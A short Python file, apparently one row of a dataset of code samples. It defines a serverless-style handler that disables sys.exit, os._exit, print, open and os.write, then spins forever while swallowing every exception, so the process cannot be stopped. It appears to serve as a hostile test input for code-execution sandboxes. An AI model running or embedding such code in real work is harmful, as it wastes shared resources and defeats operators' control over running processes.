# row: 43
# log: patched
import builtins
import os
import sys


def handler(event, context):
    sys.stdout.write("patched\n")
    os._exit = sys.exit = lambda *args: None
    os.write = builtins.open = builtins.print = None
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass
